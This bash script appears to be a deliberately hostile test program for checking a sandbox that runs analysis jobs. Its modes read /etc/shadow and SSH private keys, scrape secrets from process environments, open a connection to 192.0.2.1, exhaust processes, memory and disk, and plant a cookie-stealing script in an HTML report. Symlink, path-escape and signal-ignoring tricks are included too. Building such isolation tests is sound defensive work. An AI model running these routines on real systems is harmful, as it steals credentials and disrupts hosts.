#!/bin/bash
# One attack on whoever runs it; apart from that, a run as it should be.
shift
attack=network readings="" seed=0 out=. won=null
while [ $# -gt 1 ]; do
  case "$1 $2" in
    "--set attack="*) attack="${2#*=}" ;;
    "--input readings="*) readings="${2#*=}" ;;
    "--seed "*) seed="$2" ;;
    "--output "*) out="$2" ;;
  esac
  shift 2
done
cd "$out" || exit 1
echo "progress=0.1 $attack"
report='<p>끝</p><p lang="en">Done</p>'
unit=kW
case "$attack" in
  network) (exec 3<>/dev/tcp/192.0.2.1/80) && echo "reached the network" ;;
  files)
    for each in /etc/passwd /etc/shadow /root/.ssh/id_rsa "$HOME/.ssh/id_rsa" /var/lib/cheomdan/postgres/PG_VERSION /proc/1/root/etc/shadow \
        /job/../../etc/passwd "$(dirname "$PWD")/../../application.yml"; do
      cat "$each" && echo "reached $each"
    done
    ls /root /home "$PWD/../../" ;;
  environment)
    for each in /proc/[0-9]*/environ; do tr '\0' '\n' < "$each"; done 2> /dev/null | sed -n 's/^\([A-Za-z_][A-Za-z0-9_]*\)=.*/variable \1/p' | sort -u
    cat /proc/*/cmdline 2> /dev/null | tr '\0' '\n' | grep -a -e '[p]assword' -e '[j]dbc:' | sed 's/^/reached /' ;;
  processes) exec sh -c 'i=0; while [ $i -lt 10000 ]; do sleep 20 & i=$((i + 1)); done; echo "reached $i processes"' ;;
  memory)
    for each in /dev/shm /tmp / /dev; do head -c 400M /dev/zero > "$each/filled" && echo "filled $each"; done ;;
  disk)
    i=0; while [ $i -lt 30000 ]; do : > "file-$i"; i=$((i + 1)); done; sleep 5; echo "filled the disk" ;;
  output) head -c 60000000 /dev/zero | tr '\0' x; head -c 60000000 /dev/zero | tr '\0' '\n' ;;
  page) report='<p>끝</p><p lang="en">Done</p><script>fetch("http://192.0.2.1/?" + document.cookie)</script><img src="http://192.0.2.1/x">' ;;
  beside) echo x > ../beside; echo x > "$HOME/../beside"; mkdir -p ../../beside; mv ../inputs ../taken ;;
  endless) trap '' TERM INT HUP; while :; do :; done ;;
  riches) won=9223372036854775807 ;;
  words) unit='kW\u0000\u202e' ;;
esac
echo "mean" > result.csv
echo "1" >> result.csv
echo "{\"value\": 1, \"baseline\": 2, \"unit\": \"$unit\", \"better\": \"lower\", \"method\": \"none\"}" > metrics.json
interval=null; [ "$won" = null ] || interval="[0, $won]"
echo "{\"won\": $won, \"wonInterval\": $interval, \"per\": \"year\", \"formula\": \"none\", \"assumptions\": {}, \"measured\": {},
 \"baselineIsBetter\": false}" > benefit.json
echo "{\"program\": \"test-hostile\", \"version\": \"1.0.0\", \"inputSha256\": {\"readings\": \"$(sha256sum "$readings" | cut -d' ' -f1)\"},
 \"seed\": $seed, \"repeatable\": false}" > provenance.json
echo "<!DOCTYPE html><html lang=\"ko\"><body>$report</body></html>" > report.html
if [ "$attack" = links ]; then
  ln -sf /etc/passwd result.csv
  ln -sf /proc/self/environ metrics.json
  rm -f report.html; mkfifo report.html
  ln -s / plots
fi
echo "progress=1 done"
